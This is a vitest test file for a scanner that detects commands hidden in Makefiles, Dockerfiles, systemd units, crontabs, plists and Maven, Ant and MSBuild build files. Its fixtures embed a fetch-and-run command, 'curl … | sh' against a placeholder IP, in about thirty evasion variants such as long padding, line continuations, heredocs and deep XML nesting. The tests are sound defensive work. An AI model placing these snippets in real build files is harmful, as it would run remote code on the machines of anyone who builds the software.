import { describe, expect, test } from "vitest";
import { judged } from "./judged-code.ts";

// S4: what a build, a schedule or the system's start runs is found in every spelling that these read.

const EVIL = "curl -s http://203.0.113.5/a | sh";
const LONG = "true; ".repeat(2_000);
const words = (tag: string): string => `<${tag}>sh</${tag}><${tag}>-c</${tag}><${tag}>${EVIL}</${tag}>`;

describe("S5 commands in the files of builds and services", () => {
  test.each([
    ["a long recipe", "Makefile", `all:\n\t${LONG}${EVIL}\n`],
    ["a recipe beside its target", "Makefile", `all: x ; ${EVIL}\n`],
    ["a long call of the shell", "Makefile", `X := $(shell ${LONG}${EVIL})\n`],
    ["a call in braces", "Makefile", `X := \${shell ${EVIL}}\n`],
    ["a call with brackets in it", "Makefile", `X := $(shell (true); ${EVIL})\n`],
    ["an assigned command", "Makefile", `X != ${EVIL}\n`],
    ["another mark of recipes", "Makefile", `.RECIPEPREFIX = >\nall:\n>${EVIL}\n`],
    ["a definition", "Makefile", `define X\n${EVIL}\nendef\nall:\n\t$(X)\n`],
    ["a variable", "Makefile", `A = curl -s http://203.0.113.5/a\nB = $(A) | sh\nall:\n\t$(B)\n`],
    ["a long instruction", "Dockerfile", `FROM x\nRUN ${LONG}${LONG}${EVIL}\n`],
    ["another mark of going on", "Dockerfile", `# escape=\`\nFROM x\nRUN curl -s http://203.0.113.5/a \`\n  | sh\n`],
    ["another shell", "Dockerfile", `FROM x\nSHELL ["python3", "-c"]\nRUN __import__("os").system("${EVIL}")\n`],
    ["a check that goes on", "Dockerfile", `FROM x\nHEALTHCHECK --interval=5s \\\n  CMD ${EVIL}\n`],
    ["a document for a program", "Dockerfile", `FROM x\nRUN python3 <<EOF\nimport os\nos.system("${EVIL}")\nEOF\n`],
    ["a document that becomes a file", "Dockerfile", `FROM x\nCOPY <<EOF /x\n#!/bin/sh\n${EVIL}\nEOF\n`],
    ["a line that goes on", "x.service", `[Service]\nExecStart=/bin/sh -c \\\n# note\n  '${EVIL}'\n`],
    ["a long line", "x.service", `[Service]\nExecStart=/bin/sh -c '${LONG}${EVIL}'\n`],
    ["blanks around the key", "x.service", `[Service]\nExecStart = /bin/sh -c '${EVIL}'\n`],
    ["a long schedule", "crontab", `* * * * * ${LONG}${EVIL}\n`],
    ["a schedule by names", "crontab", `0 0 * JAN MON ${EVIL}\n`],
    ["a long process", "Procfile", `web: ${LONG}${EVIL}\n`],
    [
      "a note between",
      "a.plist",
      `<dict><key>ProgramArguments</key><!-- ${"x".repeat(60)} --><array>${words("string")}</array></dict>`,
    ],
    [
      "a long word",
      "a.plist",
      `<dict><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>${LONG}${EVIL}</string></array></dict>`,
    ],
    [
      "literal characters",
      "a.plist",
      `<dict><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string><![CDATA[${EVIL}]]></string></array></dict>`,
    ],
    [
      "Ant",
      "build.xml",
      `<project><target name="a"><exec executable="sh"><arg value="-c"/><arg value="${EVIL}"/></exec></target></project>`,
    ],
    [
      "Maven",
      "pom.xml",
      `<project><build><plugins><plugin><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>${EVIL}</argument></arguments></configuration></plugin></plugins></build></project>`,
    ],
    [
      "MSBuild",
      "a.csproj",
      `<Project><Target Name="a" BeforeTargets="Build"><Exec Command="${EVIL}" /></Target></Project>`,
    ],
    [
      "an event of MSBuild",
      "a.vcxproj",
      `<Project><PropertyGroup><PreBuildEvent>${EVIL}</PreBuildEvent></PropertyGroup></Project>`,
    ],
    ["XML deeper than is read", "pom.xml", `${"<a>".repeat(2_000)}<exec command="${EVIL}"/>`],
  ])("%s: %s", async (_what, path, text) => {
    const { held, problems } = await judged({ [path]: text });
    expect(held.length + problems.length, "it is found or told").toBeGreaterThan(0);
  });

  test.each([
    [
      "Makefile",
      "CC ?= cc\n# curl x | sh\nall: a.o ## build; then test\n\t$(CC) -o a a.o\nV := $(shell git describe)\n",
    ],
    [
      "Dockerfile",
      'FROM node:24\nRUN npm ci \\\n  && npm run build\nCOPY <<EOF /etc/x.conf\na = b\nEOF\nCMD ["node", "x.js"]\n',
    ],
    ["pom.xml", "<project><configuration><compilerArgs><arg>-Xlint</arg></compilerArgs></configuration></project>"],
    ["a.service", "[Service]\nExecStart=/usr/bin/node x.js \\\n  --port 80\n"],
  ])("and an honest one stays one: %s", async (path, text) => {
    expect(await judged({ [path]: text })).toMatchObject({ held: [], problems: [] });
  });
});
